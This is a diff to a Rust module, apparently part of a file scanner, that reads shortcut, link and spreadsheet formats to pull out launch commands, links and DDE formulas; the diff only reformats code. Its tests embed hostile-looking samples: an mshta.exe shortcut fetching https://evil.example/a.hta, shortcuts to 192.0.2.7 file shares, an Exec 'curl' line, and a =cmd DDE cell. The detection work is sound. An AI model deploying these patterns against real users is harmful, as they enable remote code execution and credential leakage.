@@ -46,7 +46,11 @@ fn command(bytes: &[u8]) -> Option<String> {
         let count = usize::from(u16_at(bytes, at)?);
         let length = if is_wide { count * 2 } else { count };
         let value = slice(bytes, at + 2, length);
-        *string = if is_wide { utf16(value) } else { String::from_utf8_lossy(value).into_owned() };
+        *string = if is_wide {
+            utf16(value)
+        } else {
+            String::from_utf8_lossy(value).into_owned()
+        };
         at += 2 + length;
     }
     let [_description, relative, _folder, arguments, _icon] = strings;
@@ -68,17 +72,27 @@ pub(super) fn text(reading: &mut Reading, bytes: &[u8], name: &str, entry: Optio
     let begin = slice(head, 0, 512).trim_ascii_start();
     let begin = begin.strip_prefix(b"\xef\xbb\xbf").unwrap_or(begin);
     if starts(begin, b"[InternetShortcut]") || lower.ends_with(".url") {
-        keys(reading, &xml::text(head), &["URL=", "BASEURL=", "IconFile="]);
+        keys(
+            reading,
+            &xml::text(head),
+            &["URL=", "BASEURL=", "IconFile="],
+        );
     } else if starts(begin, b"[Desktop Entry]") || lower.ends_with(".desktop") {
         let text = xml::text(head);
         keys(reading, &text, &["URL="]);
-        if let Some(command) = text.lines().find_map(|line| line.trim().strip_prefix("Exec=")) {
+        if let Some(command) = text
+            .lines()
+            .find_map(|line| line.trim().strip_prefix("Exec="))
+        {
             reading.runs(command);
             reading.does(Feature::Launch);
         }
     } else if lower.ends_with(".webloc") {
         web_location(reading, head);
-    } else if lower.ends_with(".library-ms") || lower.ends_with(".search-ms") || lower.ends_with(".searchconnector-ms") {
+    } else if lower.ends_with(".library-ms")
+        || lower.ends_with(".search-ms")
+        || lower.ends_with(".searchconnector-ms")
+    {
         for tag in xml::tags(&xml::text(head)).filter(|tag| tag.name == "url") {
             reading.leads_to(&xml::decoded(tag.text));
         }
@@ -88,7 +102,10 @@ pub(super) fn text(reading: &mut Reading, bytes: &[u8], name: &str, entry: Optio
         }
     } else if lower.ends_with(".rdp") {
         return remote_desktop(reading, &xml::text(head));
-    } else if [".csv", ".slk", ".tsv"].iter().any(|ending| lower.ends_with(ending)) {
+    } else if [".csv", ".slk", ".tsv"]
+        .iter()
+        .any(|ending| lower.ends_with(ending))
+    {
         return table(reading, &xml::text(head));
     } else {
         return false;
@@ -134,10 +151,17 @@ fn remote_desktop(reading: &mut Reading, text: &str) -> bool {
 /// A cell that starts a program when a spreadsheet opens the table: `=cmd|'/c calc'!A1`.
 fn table(reading: &mut Reading, text: &str) -> bool {
     let cell = text.split([',', ';', '\t', '\n', '"']).find(|cell| {
-        let Some(formula) = cell.trim().strip_prefix(['=', '+', '-', '@']).or(cell.trim().strip_prefix("E=")) else {
+        let Some(formula) = cell
+            .trim()
+            .strip_prefix(['=', '+', '-', '@'])
+            .or(cell.trim().strip_prefix("E="))
+        else {
             return false;
         };
-        formula.split_once('|').is_some_and(|(program, rest)| rest.contains('!') && super::excel::is_program(program.trim_start_matches(['=', '+', '-', '@'])))
+        formula.split_once('|').is_some_and(|(program, rest)| {
+            rest.contains('!')
+                && super::excel::is_program(program.trim_start_matches(['=', '+', '-', '@']))
+        })
     });
     if let Some(cell) = cell {
         reading.does(Feature::Dde);
@@ -148,10 +172,18 @@ fn table(reading: &mut Reading, text: &str) -> bool {
 
 /// The web addresses in a command or another text.
 fn addresses(text: &str) -> Vec<String> {
-    let ends = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | ')' | '(' | '<' | '>' | ',' | ';' | '\u{fffd}');
+    let ends = |c: char| {
+        c.is_whitespace()
+            || c.is_control()
+            || matches!(
+                c,
+                '"' | '\'' | ')' | '(' | '<' | '>' | ',' | ';' | '\u{fffd}'
+            )
+    };
     let found = text.match_indices("http").filter_map(|(at, _)| {
         let address = text.get(at..)?.split(ends).next()?;
-        (address.contains("://") && !hyperlinks::is_of_the_format(address)).then(|| address.to_owned())
+        (address.contains("://") && !hyperlinks::is_of_the_format(address))
+            .then(|| address.to_owned())
     });
     found.take(20).collect()
 }
@@ -164,23 +196,52 @@ mod tests {
 
     #[test]
     fn the_command_of_a_windows_shortcut_is_read() {
-        let shortcut = windows_shortcut("..\\..\\Windows\\System32\\mshta.exe", "https://evil.example/a.hta");
+        let shortcut = windows_shortcut(
+            "..\\..\\Windows\\System32\\mshta.exe",
+            "https://evil.example/a.hta",
+        );
         let contents = read(&shortcut, "Invoice.pdf.lnk").unwrap();
-        assert_eq!(contents.command.as_deref(), Some("..\\..\\Windows\\System32\\mshta.exe https://evil.example/a.hta"));
+        assert_eq!(
+            contents.command.as_deref(),
+            Some("..\\..\\Windows\\System32\\mshta.exe https://evil.example/a.hta")
+        );
         assert_eq!(contents.links, ["https://evil.example/a.hta"]);
-        assert_eq!((contents.kind, contents.features), (Some(Kind::Shortcut), vec![Feature::Launch]));
+        assert_eq!(
+            (contents.kind, contents.features),
+            (Some(Kind::Shortcut), vec![Feature::Launch])
+        );
     }
 
     #[test]
     fn shortcuts_to_the_web_lead_where_they_lead() {
         let plist = b"<?xml version='1.0'?><plist><dict><key>URL</key><string>https://evil.example/?a&amp;b</string></dict></plist>";
         for (name, bytes, link) in [
-            ("a.url", b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\n".as_slice(), "file://192.0.2.7/share/a.exe"),
-            ("a.txt", b"[InternetShortcut]\r\nurl=https://evil.example/", "https://evil.example/"),
+            (
+                "a.url",
+                b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\n".as_slice(),
+                "file://192.0.2.7/share/a.exe",
+            ),
+            (
+                "a.txt",
+                b"[InternetShortcut]\r\nurl=https://evil.example/",
+                "https://evil.example/",
+            ),
             ("a.webloc", plist, "https://evil.example/?a&b"),
-            ("a.webloc", b"bplist00\xd1\x01\x02SURL_\x10\x15https://evil.example/\x08", "https://evil.example/"),
-            ("a.library-ms", b"<simpleLocation><url>\\\\192.0.2.7\\share</url></simpleLocation>", "\\\\192.0.2.7\\share"),
-            ("a.iqy", b"WEB\r\n1\r\nhttps://evil.example/q\r\n", "https://evil.example/q"),
+            (
+                "a.webloc",
+                b"bplist00\xd1\x01\x02SURL_\x10\x15https://evil.example/\x08",
+                "https://evil.example/",
+            ),
+            (
+                "a.library-ms",
+                b"<simpleLocation><url>\\\\192.0.2.7\\share</url></simpleLocation>",
+                "\\\\192.0.2.7\\share",
+            ),
+            (
+                "a.iqy",
+                b"WEB\r\n1\r\nhttps://evil.example/q\r\n",
+                "https://evil.example/q",
+            ),
         ] {
             assert_eq!(read(bytes, name).unwrap().links, [link], "{name}");
         }
@@ -188,7 +249,11 @@ mod tests {
 
     #[test]
     fn commands_of_desktop_entries_and_tables_are_read() {
-        let contents = read(b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x'\n", "a.desktop").unwrap();
+        let contents = read(
+            b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x'\n",
+            "a.desktop",
+        )
+        .unwrap();
         assert_eq!(contents.command.as_deref(), Some("sh -c 'curl x'"));
         let contents = read(b"name,sum\nA,=cmd|'/c calc'!A1\n", "a.csv").unwrap();
         assert_eq!(contents.features, [Feature::Dde]);
@@ -198,7 +263,11 @@ mod tests {
 
     #[test]
     fn ordinary_texts_are_not_looked_into() {
-        for (name, bytes) in [("a.txt", "see https://a.example/".as_bytes()), ("a.csv", b"a,=SUM(A1|B2)\n"), ("a.ini", b"[x]\nURL=1")] {
+        for (name, bytes) in [
+            ("a.txt", "see https://a.example/".as_bytes()),
+            ("a.csv", b"a,=SUM(A1|B2)\n"),
+            ("a.ini", b"[x]\nURL=1"),
+        ] {
             assert_eq!(read(bytes, name), None, "{name}");
         }
     }
